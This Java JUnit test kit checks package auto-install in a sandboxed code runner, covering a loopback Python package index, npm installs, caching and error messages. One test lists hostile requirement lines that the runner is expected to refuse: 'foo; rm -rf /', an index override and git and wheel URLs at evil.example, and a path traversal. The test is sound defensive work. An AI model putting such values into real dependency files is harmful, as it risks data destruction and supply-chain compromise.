package dev.cloudrun.tck;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cloudrun.CodeRunner;
import dev.cloudrun.InvalidRequestException;
import dev.cloudrun.Phase;
import dev.cloudrun.RunListener;
import dev.cloudrun.RunRequest;
import dev.cloudrun.RunResult;
import dev.cloudrun.Status;
import dev.cloudrun.StreamKind;
import dev.cloudrun.spi.SandboxBackend;
import java.net.InetAddress;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

/**
 * Package auto-install, for every backend: Python from a package index served on loopback by the
 * test, Node.js from the real npm registry. Subclass per backend, like {@link SandboxBackendTck}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 300, unit = TimeUnit.SECONDS)
public abstract class PackageInstallTck {
    private SandboxBackend backend;
    private LocalPackageIndex index;
    private CodeRunner runner;

    /** @return a new backend to test; the kit closes it */
    protected abstract SandboxBackend createBackend();

    /**
     * @param backend the backend under test
     * @return what it has left behind (run-private caches included)
     */
    protected abstract List<String> leftovers(SandboxBackend backend);

    /**
     * @return the address the test's package index listens on, which install steps must reach
     * @throws Exception if it cannot be determined
     */
    protected InetAddress indexAddress() throws Exception {
        return InetAddress.getLoopbackAddress();
    }

    @BeforeAll
    void start() throws Exception {
        index = new LocalPackageIndex(indexAddress(), "cloudrun-demo", "cloudrun_demo", "hi from the wheel");
        backend = createBackend();
        runner = CodeRunner.create(config -> config.backend(backend).packageIndex("pypi", index.url()));
    }

    @AfterAll
    void stop() {
        runner.close();
        index.close();
    }

    @AfterEach
    void nothingLeftBehind() {
        LeakChecks.assertNothingLeftBehind(() -> leftovers(backend));
    }

    /** Records what the listener hears. */
    static final class Events implements RunListener {
        final List<String> log = new CopyOnWriteArrayList<>();
        final StringBuilder installOutput = new StringBuilder();

        @Override
        public void onPhase(Phase phase) {
            log.add("phase " + phase);
        }

        @Override
        public void onMissingPackages(List<String> packages) {
            log.add("missing " + packages);
        }

        @Override
        public void onInstallStarted(List<String> packages) {
            log.add("install " + packages);
        }

        @Override
        public void onInstallFinished(List<String> packages, boolean success, String message) {
            log.add("installed " + packages + " " + success);
        }

        @Override
        public void onText(StreamKind stream, String text) {
            if (stream == StreamKind.INSTALL) {
                synchronized (installOutput) {
                    installOutput.append(text);
                }
            }
        }
    }

    private static String uniqueCache() {
        return "test-" + UUID.randomUUID().toString().substring(0, 8);
    }

    @Test
    void pythonMissingModuleIsOnlyReportedWithoutAutoInstall() {
        Events events = new Events();
        RunResult result = runner.run(RunRequest.of("python", "import cloudrun_demo\nprint(cloudrun_demo.hello())"), events);

        assertThat(result.status()).isEqualTo(Status.RUNTIME_ERROR);
        assertThat(result.missingPackages()).containsExactly("cloudrun_demo");
        assertThat(result.installedPackages()).isEmpty();
        assertThat(events.log).contains("missing [cloudrun_demo]").noneMatch(line -> line.startsWith("install "));
    }

    @Test
    void pythonPackageIsDetectedInstalledAndTheProgramReRun() {
        String cache = uniqueCache();
        String program = "import socket\nimport cloudrun_demo\nprint(cloudrun_demo.hello())\n"
                + "try:\n    socket.create_connection(('127.0.0.1', " + index.port() + "), timeout=2)\n    print('network: open')\n"
                + "except OSError:\n    print('network: blocked')\n";
        Events events = new Events();
        long downloadsBefore = index.downloads();

        RunResult result = runner.run(RunRequest.of("python", program).withAutoInstall().withPackageCache(cache), events);

        assertThat(result.status()).as(result.message() + result.stderr()).isEqualTo(Status.OK);
        assertThat(result.stdout()).endsWith("hi from the wheel\nnetwork: blocked\n");
        assertThat(result.installedPackages()).containsExactly("cloudrun_demo");
        assertThat(events.log).containsSubsequence("phase RUNNING", "missing [cloudrun_demo]", "phase INSTALLING",
                "install [cloudrun_demo]", "installed [cloudrun_demo] true", "phase RUNNING", "phase FINISHED");
        assertThat(events.installOutput.toString()).contains("cloudrun");
        assertThat(index.downloads()).isEqualTo(downloadsBefore + 1);

        Events second = new Events();
        RunResult again = runner.run(RunRequest.of("python", program).withAutoInstall().withPackageCache(cache), second);

        assertThat(again.status()).isEqualTo(Status.OK);
        assertThat(again.installedPackages()).isEmpty();
        assertThat(second.log).noneMatch(line -> line.startsWith("install") || line.startsWith("missing"));
        assertThat(index.downloads()).isEqualTo(downloadsBefore + 1);

        runner.clearPackageCache(cache);
        RunResult cleared = runner.run(RunRequest.of("python", program).withPackageCache(cache));
        assertThat(cleared.status()).isEqualTo(Status.RUNTIME_ERROR);
        assertThat(cleared.missingPackages()).containsExactly("cloudrun_demo");
        runner.clearPackageCache(cache);
    }

    @Test
    void declaredRequirementsAreInstalledBeforeTheRun() {
        Events events = new Events();
        RunResult result = runner.run(RunRequest.of("python", "import cloudrun_demo\nprint(cloudrun_demo.hello())")
                .withFile("requirements.txt", "# what the program needs\ncloudrun-demo>=1.0\n")
                .withAutoInstall(), events);

        assertThat(result.status()).as(result.message() + result.stderr()).isEqualTo(Status.OK);
        assertThat(result.installedPackages()).containsExactly("cloudrun-demo>=1.0");
        assertThat(events.log).containsSubsequence("install [cloudrun-demo>=1.0]", "installed [cloudrun-demo>=1.0] true",
                "phase RUNNING").doesNotContain("missing [cloudrun_demo]");
    }

    @Test
    void withoutANamedCacheInstalledPackagesAreDiscardedAfterTheRun() {
        RunResult first = runner.run(RunRequest.of("python", "import cloudrun_demo\nprint(cloudrun_demo.hello())").withAutoInstall());
        RunResult second = runner.run(RunRequest.of("python", "import cloudrun_demo\nprint(cloudrun_demo.hello())"));

        assertThat(first.status()).isEqualTo(Status.OK);
        assertThat(second.status()).isEqualTo(Status.RUNTIME_ERROR);
    }

    @Test
    void aPackageTheIndexDoesNotHaveFailsTheInstallClearly() {
        Events events = new Events();
        RunResult result = runner.run(RunRequest.of("python", "import no_such_thing_here").withAutoInstall(), events);

        assertThat(result.status()).isEqualTo(Status.RUNTIME_ERROR);
        assertThat(result.message()).contains("installing no_such_thing_here failed");
        assertThat(result.missingPackages()).containsExactly("no_such_thing_here");
        assertThat(events.log).contains("installed [no_such_thing_here] false");
    }

    @Test
    void anIndexThatCannotBeReachedIsNamedWithTheSettingForAMirror() {
        SandboxBackend own = createBackend();
        try (CodeRunner unreachable = CodeRunner.create(config -> config.backend(own)
                .packageIndex("pypi", "http://pypi-mirror.invalid/simple"))) {
            Events events = new Events();
            RunResult result = unreachable.run(RunRequest.of("python", "import cloudrun_demo").withAutoInstall(), events);

            assertThat(result.status()).as(result.message()).isEqualTo(Status.RUNTIME_ERROR);
            assertThat(result.message()).contains("installing cloudrun_demo failed")
                    .contains("the package index http://pypi-mirror.invalid/simple cannot be reached")
                    .contains("pypi-mirror.invalid does not resolve").contains("packageIndex(\"pypi\"")
                    .contains("CLOUDRUN_PYPI_INDEX_URL");
            assertThat(events.log).contains("installed [cloudrun_demo] false");
        }
        // What the closed backend left, the leak check after each test finds (it sees this JVM's sandboxes).
    }

    @Test
    void maliciousDeclaredDependenciesAreRefusedBeforeAnythingRuns() {
        for (String line : List.of("foo; rm -rf /", "--index-url=http://evil.example/simple", "../x",
                "-e git+https://evil.example/x.git", "pkg @ https://evil.example/pkg.whl")) {
            assertThatThrownBy(() -> runner.run(RunRequest.of("python", "print(1)")
                    .withFile("requirements.txt", line + "\n").withAutoInstall()))
                    .as(line)
                    .isInstanceOfSatisfying(InvalidRequestException.class,
                            e -> assertThat(e.field()).isEqualTo("files[requirements.txt]"));
        }
        assertThatThrownBy(() -> runner.run(RunRequest.of("javascript", "1")
                .withFile("package.json", "{\"dependencies\": {\"x\": \"git+https://evil.example/x.git\"}}").withAutoInstall()))
                .isInstanceOfSatisfying(InvalidRequestException.class,
                        e -> assertThat(e.field()).isEqualTo("files[package.json]"));
    }

    @Test
    void nodePackageFromTheNpmRegistryIsInstalledOnceAndKept() {
        String cache = uniqueCache();
        // is-odd is in no runtime image (Debian's npm brings many modules along) and depends on is-number.
        String program = "const isOdd = require('is-odd');\nconsole.log(isOdd(5), isOdd(4));\n";
        Events events = new Events();

        RunResult result = runner.run(RunRequest.of("javascript", program).withAutoInstall().withPackageCache(cache), events);

        assertThat(result.status()).as(result.message() + result.stderr() + events.installOutput).isEqualTo(Status.OK);
        assertThat(result.stdout()).isEqualTo("true false\n");
        assertThat(result.installedPackages()).containsExactly("is-odd");
        assertThat(events.log).containsSubsequence("missing [is-odd]", "install [is-odd]", "installed [is-odd] true");

        Events second = new Events();
        RunResult again = runner.run(RunRequest.of("javascript", "import isOdd from 'is-odd';\nconsole.log(isOdd(7));\n")
                .withMainFileName("main.mjs").withAutoInstall().withPackageCache(cache), second);

        assertThat(again.status()).as(again.stderr()).isEqualTo(Status.OK);
        assertThat(again.stdout()).isEqualTo("true\n");
        assertThat(second.log).noneMatch(line -> line.startsWith("install"));
        runner.clearPackageCache(cache);
    }
}
